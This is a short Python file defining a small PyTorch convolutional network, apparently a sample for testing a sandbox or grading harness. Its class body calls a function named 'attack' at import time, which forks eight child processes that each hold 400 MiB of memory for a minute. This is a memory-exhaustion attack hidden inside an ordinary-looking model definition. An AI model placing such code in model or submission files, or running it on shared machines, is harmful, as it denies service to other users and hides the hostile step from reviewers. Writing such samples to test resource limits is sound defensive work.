"""Children that hold 400 MiB each."""

import os
import time

import torch.nn as nn
import torch.nn.functional as F


def attack():
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(b"x" * (400 * 2**20))
            time.sleep(60)
            os._exit(0)
    time.sleep(60)


class Net(nn.Module):
    attack()

    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 16, 3)
        self.norm = nn.BatchNorm2d(16)
        self.drop = nn.Dropout(0.1)
        self.last = nn.Conv2d(16, 10, 3)
        self.pool = nn.AdaptiveAvgPool2d(1)

    def body(self, x):
        return self.drop(self.norm(F.relu(self.conv(x))))

    def head(self, x):
        return self.pool(self.last(x)).flatten(1)

    def forward(self, x):
        return self.head(self.body(x))
